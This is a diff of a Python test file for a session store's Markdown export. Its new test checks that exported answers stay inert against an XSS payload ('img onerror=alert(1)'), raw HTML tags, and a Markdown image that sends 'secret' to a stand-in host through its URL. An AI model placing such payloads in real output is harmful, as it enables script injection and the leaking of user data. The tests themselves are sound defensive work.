@@ -1,11 +1,13 @@
 """Sessions, turns, search, export, measurements."""
 
 import json
+import re
 import time
 from dataclasses import replace
 from typing import Any
 
 import pytest
+from markdown_it import MarkdownIt
 
 from sessions import NotFound, Store, StoreError
 
@@ -216,7 +218,7 @@ def test_export_markdown(talked: Any) -> None:
         "- *Emma \\*vol. 1\\** (txt, 3 pages)\n\n"
         f"Read by pocket with exact, budget 512. {date} UTC.\n\n"
         "## 1. Who is Emma?\n\n"
-        "A **person**.\n\n\\<script>x\\</script>\n\n"
+        "A **person**.\n\n&lt;script>x&lt;/script>\n\n"
         "1. Emma \\*vol. 1\\*, p. 12 (62%): “Emma Woodhouse, handsome &lt;i>”\n"
         "2. Emma \\*vol. 1\\*, ch. 3, par. 4 (10%)\n\n"
         "## 2. And?\n\n"
@@ -243,7 +245,23 @@ def test_an_export_fetches_no_picture_that_an_answer_names(filled: Any) -> None:
     session = filled.session()
     filled.answered(session, "Well?", "Yes! ![all of it](https://elsewhere.example/?said=secret) [1]")
     lines = filled.store.export_session(session.id).split("\n")
-    assert r"Yes! \![all of it](https://elsewhere.example/?said=secret) [1]" in lines
+    assert r"Yes! &#33;[all of it](https://elsewhere.example/?said=secret) [1]" in lines
+
+
+@pytest.mark.parametrize("backslashes", range(5))
+def test_nothing_in_an_export_is_rendered_whatever_stands_before_it(filled: Any, backslashes: int) -> None:
+    """Signs were escaped with a backslash, which another one before it escaped in turn."""
+    session, document, before = filled.session(), filled.document(), "\\" * backslashes
+    evil = f"So {before}<b>, {before}<img src=x onerror=alert(1)> and {before}![p](http://elsewhere.example/p.png)"
+    sources = [{"document": document.id, "place": evil, "quote": evil, "weight": 0.5}]
+    turn = filled.store.add_turn(session.id, evil)
+    filled.store.finish_turn(turn.id, answer=f"{evil} *well*", sources=sources)
+    shown = MarkdownIt("commonmark").render(filled.store.export_session(session.id))
+    assert "<em>well</em>" in shown
+    assert not re.search("<(b>|img)", shown)
+    said = "\\" * (backslashes // 2)  # one escapes what follows, and two are one
+    assert f"<p>So {said}&lt;b&gt;, {said}&lt;img src" in shown
+    assert f" and {said}!<a href=" in shown
 
 
 def test_export_json_is_complete(talked: Any) -> None:
